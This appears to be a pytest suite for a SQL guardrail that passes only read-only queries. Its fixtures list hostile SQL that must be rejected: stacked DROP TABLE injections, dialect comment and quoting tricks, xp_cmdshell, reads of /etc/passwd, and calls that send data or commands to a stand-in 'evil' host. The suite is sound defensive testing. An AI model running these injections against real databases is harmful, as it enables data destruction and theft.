"""SQL that only reads passes; what writes, waits, or is read differently by databases does not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from serving.guardrails.tools.sql import MAX_CHARACTERS, only_reads

READS = [
    "SELECT 1",
    "select * from users where name = 'O''Brien';",
    "SELECT count(*), max(total) FROM orders GROUP BY day HAVING count(*) > 3 ORDER BY 1 DESC",
    "WITH late AS (SELECT id FROM orders WHERE due < now()) SELECT * FROM late JOIN u USING (id)",
    "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
    "(SELECT a FROM t) UNION (SELECT b FROM u)",
    "SELECT a, -- the first\n b /* the second */ FROM t",
    "SELECT CAST(price AS numeric(10, 2)), name::text FROM items WHERE id IN (1, 2, 3)",
    "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t",
    'SELECT "Order Date" FROM "sales"."orders"',
    "SELECT `first name` FROM `shop`.`users` LIMIT 5",
    "SELECT [first name] FROM [dbo].[users]",
    "SELECT tags[1] FROM posts WHERE id = $1 AND owner = :owner AND x = ? AND y = @y",
    "SELECT replace(name, 'a', 'b') FROM t",
    "SELECT extract(year FROM day) FROM t",
    "SELECT open, close FROM prices WHERE note = 'drop table; -- not'",
    "SELECT e'x', N'y' FROM t",
    "SELECT * FROM t OFFSET 5 ROWS FETCH NEXT 5 ROWS ONLY",
    "SHOW TABLES",
    "DESCRIBE users",
    "SELECT 1\r\nFROM t\r\n",
    "SELECT größe FROM maße",
]

CHANGES = [
    "",
    ";",
    "-- nothing",
    "DELETE FROM users",
    "INSERT INTO t VALUES (1)",
    "SELECT 1; DROP TABLE users",
    "SELECT 1; SELECT 2",
    "SELECT 1 DROP TABLE users",
    "SELECT 1 EXEC xp_cmdshell 'dir'",
    "SELECT 1 KILL 53",
    "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
    "WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM x",
    "SELECT * INTO copy_of FROM users",
    "SELECT * FROM users INTO OUTFILE '/tmp/x'",
    "SELECT a FROM t FOR UPDATE",
    "SELECT a FROM t FOR NO KEY UPDATE",
    "SELECT a FROM t FOR SHARE",
    "SELECT a FROM t LOCK IN SHARE MODE",
    "SELECT * FROM t WITH (TABLOCKX)",
    "COPY users TO PROGRAM 'curl evil'",
    "COPY (SELECT 1) TO '/tmp/x'",
    "EXPLAIN ANALYZE DELETE FROM users",
    "CALL f()",
    "PRAGMA writable_schema = 1",
    "ATTACH 'x.db' AS x",
    "SET ROLE admin",
    "BEGIN",
    "DO $$ BEGIN PERFORM 1; END $$",
    "VACUUM",
    "REPLACE INTO t VALUES (1)",
    "LOAD DATA INFILE 'x' INTO TABLE t",
    "SELECT @a := 1",
    "SELECT seq.nextval FROM dual",
    "SELECT NEXT VALUE FOR seq",
]

FUNCTIONS = [
    "SELECT pg_sleep(10)",
    "SELECT pg_catalog.pg_sleep(10)",
    'SELECT "pg_sleep"(10)',
    "SELECT pg_sleep /* x */ (10)",
    "SELECT pg_sleep\n(10)",
    "SELECT PG_READ_FILE('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    "SELECT load_extension('x')",
    "SELECT load_file('/etc/passwd')",
    "SELECT sleep(10), benchmark(1000000, md5('x'))",
    "SELECT query_to_xml('delete from users', true, true, '')",
    "SELECT set_config('role', 'admin', false)",
    "SELECT nextval('s')",
    "SELECT setval('s', 1)",
    "SELECT * FROM openrowset('x', 'y', 'z')",
    "SELECT writefile('x', 'y')",
    "SELECT evil.count(1)",
    "SELECT utl_http.request('http://evil')",
    "SELECT (pg_terminate_backend)(1)",
    "SELECT * FROM t PROCEDURE analyse(1)",
    "SELECT TRANSFORM(a) USING 'sh' FROM t",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM '/etc/passwd'",
]

READ_DIFFERENTLY = [
    "SELECT 1 /*! ; DROP TABLE users */",
    "SELECT 1 /*!50000 INTO OUTFILE 'x' */",
    "SELECT 1 /*M! + sleep(1) */",
    "SELECT /*+ SET_VAR(sql_mode='') */ 1",
    "SELECT /* /* */ 1 */ ; DROP TABLE users --",
    "SELECT 1 --1",
    "SELECT 1 # comment\n",
    r"SELECT 'a\'; DROP TABLE users; -- '",
    r'SELECT "a\"; DROP TABLE users; -- "',
    "SELECT $$a'$$; DROP TABLE users; --'",
    "SELECT $x$a'$x$",
    "SELECT q'!'!' FROM dual; DROP TABLE users --'",
    "SELECT q'['] ; DROP TABLE users; SELECT ['x]'",
    "SELECT [a'] ; DROP TABLE users; SELECT [b']",
    "SELECT [a]] '] ; DROP TABLE users; SELECT ['b]",
    "SELECT 'open",
    'SELECT "open',
    "SELECT `a' ; DROP TABLE users; '`",
    "SELECT /* open",
    "SELECT 1 --\rDROP TABLE users",
    "SELECT 1 -- \x0bDROP TABLE users",
    "SELECT 1 -- \u2028DROP TABLE users",
    "SELECT 1\x00; DROP TABLE users",
    "SELECT {fn user()}",
    "SELECT \\g",
    "SELECT 1a",
    "SELECT ]",
    "SELECT '" + "x" * MAX_CHARACTERS + "'",
]


@pytest.mark.parametrize("text", READS)
def test_a_statement_that_reads_passes(text: str):
    assert only_reads(text)


@pytest.mark.parametrize("text", CHANGES)
def test_a_statement_that_changes_or_locks_does_not_pass(text: str):
    assert not only_reads(text)


@pytest.mark.parametrize("text", FUNCTIONS)
def test_only_functions_that_compute_pass(text: str):
    assert not only_reads(text)


@pytest.mark.parametrize("text", READ_DIFFERENTLY)
def test_what_dialects_read_differently_does_not_pass(text: str):
    assert not only_reads(text)


@given(st.text(max_size=60))
def test_a_second_statement_never_passes_whatever_is_before_it(before: str):
    assert not only_reads(f"SELECT {before}; DROP TABLE users")
    assert not only_reads(f"SELECT {before}\nDROP TABLE users") or "'" in before or '"' in before


@given(st.text(alphabet="SELECT'\"`[]();-/*$q\\ \n#", max_size=40))
def test_any_text_gets_an_answer(text: str):
    assert only_reads(text) in (True, False)


@pytest.mark.parametrize("part", ["(", "/*", "'' ", "a.", "[1]", "1 ", "- -", "$1 "])
def test_long_texts_are_read_in_linear_time(part: str):
    only_reads("SELECT " + part * (MAX_CHARACTERS // len(part) - 5))
